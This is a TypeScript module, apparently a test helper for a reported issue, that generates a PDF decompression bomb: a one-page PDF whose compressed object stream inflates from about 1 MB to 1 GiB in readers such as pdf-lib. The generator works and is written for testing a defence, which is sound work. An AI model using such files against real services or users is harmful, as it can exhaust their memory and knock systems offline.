import { createDeflate } from 'node:zlib';

/** Deflates `tamanho` bytes of spaces in streaming (never holding them): ~1 MB of output per GB inflated. */
async function comprimirEspacos(tamanho: number): Promise<Buffer> {
  const compressor = createDeflate({ level: 9 });
  const partes: Buffer[] = [];
  compressor.on('data', (parte: Buffer) => partes.push(parte));
  const fim = new Promise<void>((resolve, reject) => {
    compressor.once('end', resolve);
    compressor.once('error', reject);
  });
  const bloco = Buffer.alloc(16 * 1024 * 1024, 0x20);
  for (let escrito = 0; escrito < tamanho; escrito += bloco.length) {
    const parte = tamanho - escrito >= bloco.length ? bloco : bloco.subarray(0, tamanho - escrito);
    if (!compressor.write(parte)) await new Promise((resolve) => compressor.once('drain', resolve));
  }
  compressor.end();
  await fim;
  return Buffer.concat(partes);
}

/**
 * A decompression bomb (issue 17): a valid one-page PDF whose object stream (/Type /ObjStm, FlateDecode) inflates
 * to `inflado` bytes (1 GiB by default, from a file of about 1 MB). A PDF reader that inflates object streams
 * while loading (pdf-lib does) holds all of it in memory.
 */
export async function gerarPdfBomba(inflado = 1024 * 1024 * 1024): Promise<Buffer> {
  const fluxo = await comprimirEspacos(inflado);
  const partes: Buffer[] = [];
  const deslocamentos: number[] = [];
  let posicao = 0;
  const escrever = (parte: string | Buffer) => {
    const bytes = typeof parte === 'string' ? Buffer.from(parte, 'latin1') : parte;
    partes.push(bytes);
    posicao += bytes.length;
  };
  const objeto = (numero: number, corpo: string) => {
    deslocamentos[numero] = posicao;
    escrever(`${numero} 0 obj\n${corpo}\nendobj\n`);
  };
  escrever('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n');
  objeto(1, '<< /Type /Catalog /Pages 2 0 R >>');
  objeto(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  objeto(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>');
  deslocamentos[4] = posicao;
  escrever(`4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${fluxo.length} >>\nstream\n`);
  escrever(fluxo);
  escrever('\nendstream\nendobj\n');
  const inicioXref = posicao;
  const linhas = ['xref', '0 5', '0000000000 65535 f '];
  for (let numero = 1; numero <= 4; numero++)
    linhas.push(`${String(deslocamentos[numero]).padStart(10, '0')} 00000 n `);
  escrever(`${linhas.join('\n')}\ntrailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${inicioXref}\n%%EOF\n`);
  return Buffer.concat(partes);
}
